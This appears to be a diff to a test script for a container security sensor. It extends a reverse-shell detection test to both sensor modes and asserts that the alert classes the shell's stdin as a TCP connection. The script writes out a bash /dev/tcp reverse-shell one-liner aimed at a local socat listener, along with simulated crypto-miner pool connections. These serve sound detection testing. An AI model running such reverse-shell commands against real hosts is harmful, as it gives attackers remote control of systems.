@@ -84,12 +84,15 @@ else
     MARKER=absent
 fi
 
+# a reverse shell: both sensors class its stdio as a TCP connection (the
+# fallback through /proc and a copy of the socket)
+# below the ephemeral range (32768-), where other connections could hold it
+PORT=$(( 20000 + $$ % 12000 ))
+socat "TCP-LISTEN:$PORT,bind=127.0.0.1,reuseaddr" SYSTEM:'sleep 1; echo exit' &
+LISTEN_PID=$!
+sleep 0.5
+run revshell --network host --entrypoint bash "$IMG" -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"
 if [ "$MODE" = ebpf ]; then
-    PORT=$(( 20000 + $$ % 20000 ))
-    socat "TCP-LISTEN:$PORT,bind=127.0.0.1,reuseaddr" SYSTEM:'sleep 1; echo exit' &
-    LISTEN_PID=$!
-    sleep 0.5
-    run revshell --network host --entrypoint bash "$IMG" -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"
     run miner --network host --entrypoint bash "$IMG" \
         -c 'exec 3<>/dev/tcp/127.0.0.1/3333; true' 
     run minerargs --entrypoint bash "$IMG" -c ': --url stratum+tcp://pool.invalid:3333'
@@ -169,6 +172,9 @@ for line in open(sys.argv[1]):
 sys.exit(1)
 PYEOF
 expect container-drift drift
+expect reverse-shell revshell
+grep '"rule":"reverse-shell"' "$W/alerts.jsonl" | grep -q '"proc.stdin_type":"tcp"' ||
+    fail "the reverse shell's stdin was not classed as a TCP connection"
 [ "$DRC" = 137 ] || fail "dropped binary exited $DRC, expected 137 (SIGKILL)"
 if [ "$MODE" = ebpf ]; then
     # fanotify does not watch the engine's tmpfs socket bind-mounted in
@@ -178,7 +184,6 @@ if [ "$MODE" = ebpf ]; then
     grep -q '"rule":"test-deny-exe".*"action":"killed-in-kernel"' "$W/alerts.jsonl" ||
         fail "no test-deny-exe alert with action killed-in-kernel"
     [ "$MARKER" = absent ] || fail "dropped binary created its marker before it was killed"
-    expect reverse-shell revshell
     expect reverse-shell-cmdline revshell
     expect crypto-miner-pool-port miner
     expect crypto-miner-args minerargs
